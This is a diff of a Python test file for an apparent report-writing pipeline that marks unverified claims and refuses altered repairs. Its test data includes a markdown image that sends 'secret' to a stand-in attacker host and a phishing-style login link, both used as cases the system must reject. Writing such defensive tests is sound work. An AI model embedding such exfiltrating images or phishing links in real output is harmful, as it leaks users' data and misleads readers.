@@ -10,7 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from kit.models import call, calls
 from kit.reports import BOTH, audited, claim, rewritten, source_at
-from kit.runs import REPORT, lab, search
+from kit.runs import REPORT, lab, search, written
 from langchain_core.messages import AIMessage
 from langgraph.store.memory import InMemoryStore
 
@@ -32,7 +32,7 @@ MARK = " *(not verified)*"
 
 
 @pytest.mark.parametrize(
-    ("written", "handed_in"),
+    ("draft", "handed_in"),
     [
         (TALL, "It stands 38 metres tall ![x](https://evil.example/?q=secret). [1]"),
         (TALL, "It stands [38 metres tall](https://evil.example/login). [1]"),
@@ -45,10 +45,10 @@ MARK = " *(not verified)*"
         (KEPT, "Ada Moran kept the lamp, and it stands 38 metres tall [1]."),
     ],
 )
-async def test_a_repair_that_adds_or_loses_anything_is_refused(tmp_path: Path, written: str, handed_in: str) -> None:
-    state = await lab(tmp_path, writer=[written, rewritten(handed_in)], researcher=BOTH).ask()
+async def test_a_repair_that_adds_or_loses_anything_is_refused(tmp_path: Path, draft: str, handed_in: str) -> None:
+    state = await lab(tmp_path, writer=[draft, rewritten(handed_in)], researcher=BOTH).ask()
     assert state.report and MARK in state.report.text
-    assert state.report.text.replace(MARK, "") == written
+    assert state.report.text.replace(MARK, "") == draft
     assert all(claimed.repair is None for claimed in state.report.claims)
 
 
@@ -66,8 +66,7 @@ async def test_rewritten_sentences_are_matched_by_the_number_that_was_shown(tmp_
 async def test_the_same_repair_of_two_sentences_is_used_once(tmp_path: Path) -> None:
     right = "It stands 38 metres tall. [1]"
     written = "It stands 83 metres tall. [1] It stands 88 metres tall. [1]"
-    run = lab(tmp_path, writer=[written, rewritten(right, right)], researcher=BOTH)
-    state = await run.ask()
+    state = await lab(tmp_path, writer=[written, rewritten(right, right)], researcher=BOTH).ask()
     assert state.report and state.report.text.count("38 metres") == 1
     assert audited(state).marked == 1
 
@@ -113,9 +112,7 @@ async def test_a_sentence_whose_citation_named_nothing_is_marked_and_a_heading_i
     assert state.report.text == f"{heading}\n\nThe tower glows at night. *(not verified)* {lit}"
 
 
-@pytest.mark.parametrize(
-    "sentence", ["Die Turbinen kosteten 58 Mio. Kronen.", "Am 3. März 2019 wurde der Turm gesprengt."]
-)
+@pytest.mark.parametrize("sentence", ["Sie kosteten 58 Mio. Kronen.", "Am 3. März 2019 wurde der Turm gesprengt."])
 def test_a_german_sentence_does_not_end_at_an_abbreviation_or_an_ordinal(sentence: str) -> None:
     assert [found.text for found in sentences_of(f"{sentence} Er fiel.")] == [sentence, "Er fiel."]
 
@@ -150,9 +147,7 @@ def test_a_draft_source_is_noted_once_below_a_table_and_not_behind_sentences() -
 
 
 def test_an_introduction_is_shown_with_its_items_and_a_cell_with_its_head() -> None:
-    text = (
-        "Two were lit:\n\n- Skerry [1]\n- Anlow [2]\n\nNothing else [1].\n\n| a | b |\n| --- | --- |\n| Lit | 12 [2] |"
-    )
+    text = "Two were lit:\n\n- Skerry [1]\n- Anlow [2]\n\nNo more [1].\n\n| a | b |\n| --- | --- |\n| Lit | 12 [2] |"
     around = {unit.text: unit.around for unit in report_units(text, {1: "k", 2: "l"}) if unit.around}
     assert around == {
         "Two were lit:": "Two were lit:\n- Skerry [1]\n- Anlow [2]",
@@ -187,24 +182,21 @@ GERMAN = (
 
 
 async def test_a_repair_in_another_language_is_refused_even_if_a_source_says_it(tmp_path: Path) -> None:
-    (tmp_path / "german").mkdir()
-    (tmp_path / "german" / "moran.md").write_text(f"# Ada Moran\n\n{GERMAN}\n", "utf-8")
-    written = "Ada Moran of Tralee kept the lighthouse of Skerry by Port Anlow and Kilrush from 1801 to 1832. [1]"
+    draft = "Ada Moran of Tralee kept the lighthouse of Skerry by Port Anlow and Kilrush from 1801 to 1832. [1]"
     run = lab(
         tmp_path,
         researcher=[search("Ada Moran"), REPORT, "Ada Moran. [1]"],
-        writer=[written, rewritten(f"{GERMAN} [1]")],
+        writer=[draft, rewritten(f"{GERMAN} [1]")],
     )
-    run.folder = tmp_path / "german"
+    run.folder = written(tmp_path / "german", {"moran_md": f"# Ada Moran\n\n{GERMAN}\n"})
     state = await run.ask("Who kept the lighthouse of Skerry, and from when until when was that?")
     assert len(run.calls("writer")) == 2
-    assert state.report and state.report.text.startswith(written)
+    assert state.report and state.report.text.startswith(draft)
     assert claim(state).is_marked
 
 
 def test_a_mark_is_separated_from_the_next_word() -> None:
-    claim = ClaimCheck(start=0, end=6, verdict="unsupported")
-    marked, _ = with_marks("塔高38米。第二座塔。", [claim], labels("en"))
+    marked, _ = with_marks("塔高38米。第二座塔。", [ClaimCheck(start=0, end=6, verdict="unsupported")], labels("en"))
     assert marked == "塔高38米。 *(not verified)* 第二座塔。"
 
 
